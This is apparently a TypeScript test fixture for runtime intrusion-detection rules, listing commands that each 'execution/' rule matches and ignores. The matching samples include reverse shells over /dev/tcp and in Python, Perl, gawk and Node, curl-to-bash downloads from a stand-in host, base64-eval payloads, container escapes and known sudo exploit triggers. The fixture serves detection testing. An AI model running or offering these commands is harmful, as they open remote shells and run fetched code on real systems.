import type { Triggers } from '../trigger.ts'

/** Triggers of the rules in this folder, and what must not match. */
export const execution: Triggers = {
  'execution/shell-to-network': {
    hits: [
      ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'],
      ['sh', '-c', 'exec 5<>/dev/udp/192.0.2.7/53; cat <&5'],
    ],
    misses: [
      ['bash', '-c', 'echo /dev/tcp is a name'],
      ['bash', '-c', 'exec 3<>/dev/tcp/localhost/5432'],
    ],
  },
  'execution/interpreter-reverse-shell': {
    hits: [
      [
        'python3.11',
        '-c',
        'import socket,os;s=socket.socket();os.dup2(s.fileno(),0);os.system("sh")',
      ],
      ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec("sh -i")'],
      ['gawk', 'BEGIN{s="/inet/tcp/0/192.0.2.7/80";s |& getline c}'],
    ],
    misses: [
      ['python3', '-c', 'import socket; print(socket.gethostname())'],
      ['perl', '-e', 'print "socket"'],
    ],
  },
  'execution/pty-from-interpreter': {
    hits: [
      ['python3', '-c', 'import pty; pty.spawn("/bin/bash")'],
      ['script', '-qc', '/bin/bash', '/dev/null'],
    ],
    misses: [
      ['python3', '-c', 'import ptyprocess'],
      ['script', 'session.log'],
    ],
  },
  'execution/download-to-shell': {
    hits: [
      ['sh', '-c', 'curl -fsSL http://192.0.2.7/x.sh | bash'],
      ['bash', '-c', 'bash <(wget -qO- http://192.0.2.7/x)'],
      ['sh', '-c', 'curl http://192.0.2.7/x | sudo -E python3 -'],
    ],
    misses: [
      ['sh', '-c', 'curl -s http://192.0.2.7/list | grep ready'],
      ['sh', '-c', 'wget http://192.0.2.7/x.tar.gz; ls'],
    ],
  },
  'execution/javascript-shell': {
    hits: [['node', '-e', 'require("child_process").exec("/bin/sh -i")']],
    misses: [['node', '-e', 'console.log("child_process")']],
  },
  'execution/encoded-interpreter-text': {
    hits: [
      ['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'],
      ['php', '-r', 'eval(base64_decode("ZWNobyAxOw=="));'],
    ],
    misses: [['python3', '-c', 'import base64;print(base64.b64decode("aGk="))']],
  },
  'execution/container-exec': {
    hits: ['docker exec -it web sh', 'kubectl -n shop exec pod/web -- id'],
    misses: ['docker ps --all', 'kubectl get pods'],
  },
  'execution/privileged-container': {
    hits: [
      'docker run --rm --privileged alpine sh',
      'podman run -v /:/host alpine',
      'docker run -it --pid=host debian',
    ],
    misses: ['docker run --rm -v /srv/data:/data alpine', 'docker run -p 80:80 nginx'],
  },
  'execution/systemd-run': {
    hits: ['systemd-run --on-active=30 /bin/sh -c id', 'systemd-run --unit=x /opt/x'],
    misses: ['systemd-run --version'],
  },
  'execution/at-job': { hits: ['at now + 1 minute', 'at -f job 23:59'], misses: ['at -l'] },
  'execution/from-memory': {
    hits: [{ sh: 'exec 9< /bin/true; exec /proc/self/fd/9' }],
    misses: [{ sh: 'exec 9< /bin/true; /bin/true /proc/self/fd/9' }],
  },
  'execution/memory-file-made': {
    hits: [{ sh: '$TRIGGER memfd name' }],
    misses: [{ sh: 'cp $TRIGGER node; ./node memfd name' }],
  },
  'execution/hidden-or-shared-memory': {
    hits: [
      { at: '/tmp/.rules-x/tool', run: ['tool', 'a'] },
      { at: '/dev/shm/rules-x', run: ['tool'] },
    ],
    misses: [{ at: '/tmp/rules-x/tool', run: ['tool', '.hidden'] }],
  },
  'execution/web-server-shell': {
    hits: [
      { under: 'nginx', run: ['sh', '-c', 'id'] },
      { under: 'php-fpm8.2', run: ['whoami'] },
    ],
    misses: [
      { under: 'nginx', run: ['nginx', '-t'] },
      { under: 'bash', run: ['whoami'] },
    ],
  },
  'execution/shell-connects': {
    hits: [
      {
        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 60 bash -c \\"echo > /dev/tcp/192.0.2.7/80\\" 2> /dev/null; true"',
      },
    ],
    misses: [{ sh: 'bash -c "echo > /dev/tcp/127.0.0.1/80" 2> /dev/null; true' }],
  },
  'execution/container-socket-used': {
    hits: [
      'curl --unix-socket /run/docker.sock http://x/containers/json',
      'curl -k https://192.0.2.7:10250/run/a/b/c',
    ],
    misses: ['curl --unix-socket /run/app.sock http://x/', 'curl https://192.0.2.7:10250/healthz'],
  },
  'execution/python-text': {
    hits: [['python3', '-c', 'print(1)'], 'python3 -u /tmp/x.py', 'python3.13 /dev/shm/a.pyc'],
    misses: ['python3 /usr/lib/a/main.py', 'python3 -m venv x'],
  },
  'execution/javascript-text': {
    hits: [['node', '-e', '1'], 'deno run /tmp/x.js'],
    misses: ['node server.js', 'node --experimental-vm-modules x'],
  },
  'execution/interpreter-text': {
    hits: [['perl', '-e', 'system("id")'], ['php', '-r', 'echo 1;'], 'ruby /tmp/x.rb'],
    misses: [['perl', '-pe', 's/a/b/'], 'php index.php'],
  },
  'execution/lua-text': {
    hits: [['lua5.4', '-e', 'os.execute("id")'], 'luajit /tmp/x.lua'],
    misses: ['lua /usr/share/lua/x.lua'],
  },
  'execution/script-from-writable-folder': {
    hits: ['sh /tmp/x.sh', 'bash -x /dev/shm/a', ['bash', '-c', '. /var/tmp/x']],
    misses: ['sh /usr/bin/x.sh', 'sh -e /opt/x'],
  },
  'execution/program-from-writable-folder': {
    hits: [
      { at: '/tmp/rules-x5/run', run: ['x', '-a'] },
      { at: '/dev/shm/rules-x5', run: ['x'] },
    ],
    misses: [{ at: '/tmp/go-build-rules-x7/x', run: ['x'] }],
  },
  'execution/shell-of-busybox': {
    hits: [['busybox', 'sh', '-c', 'id'], 'busybox nc 192.0.2.7 80'],
    misses: ['busybox ls /', 'busybox --install /bin'],
  },
  'execution/shells-listed': {
    hits: ['cat /etc/shells', 'chsh -s /bin/zsh a', 'usermod --shell /bin/bash daemon'],
    misses: ['chsh --help', 'usermod -s /usr/sbin/nologin a'],
  },
  'execution/service-started': {
    hits: ['systemctl start x', 'service x restart', 'systemctl daemon-reload'],
    misses: ['systemctl status x', 'service x status'],
  },
  'execution/library-of-attacker': {
    hits: [
      ['python3', '-c', 'import ctypes; ctypes.CDLL("/tmp/x.so")'],
      ['perl', '-e', 'syscall(319, "x", 1)'],
    ],
    misses: [['python3', '-c', 'import os']],
  },
  'execution/code-in-memory': {
    hits: [
      ['python3', '-c', 'import ctypes,mmap; m=mmap.mmap(-1,9,prot=7); ctypes.CFUNCTYPE(None)(1)'],
    ],
    misses: [['python3', '-c', 'import mmap']],
  },
  'execution/workload-created': {
    hits: ['kubectl create -f x.yaml', 'kubectl get cronjobs -A', 'helm install x y'],
    misses: ['kubectl get pods', 'helm list'],
  },
  'execution/known-exploit-of-sudo': {
    hits: [
      ['sudo', '-u#-1', 'id'],
      ['sudoedit', '-s', 'AAAA\\'],
      ['unshare', '-rm', 'sh', '-c', 'mount -t overlay x y'],
    ],
    misses: ['sudo -u ann id', 'sudoedit /etc/hosts'],
  },
  'execution/application-server-shell': {
    hits: [{ under: 'java', run: ['sh', '-c', 'whoami; curl http://192.0.2.7/x'] }],
    misses: [
      { under: 'java', run: ['sh', '-c', 'make all'] },
      { under: 'bash', run: ['sh', '-c', 'whoami'] },
    ],
  },
  'execution/package-script-downloads': {
    hits: [{ under: 'npm', run: ['sh', '-c', 'curl -s http://192.0.2.7/x -o x'] }],
    misses: [{ under: 'npm', run: ['sh', '-c', 'node build.js'] }],
  },
}
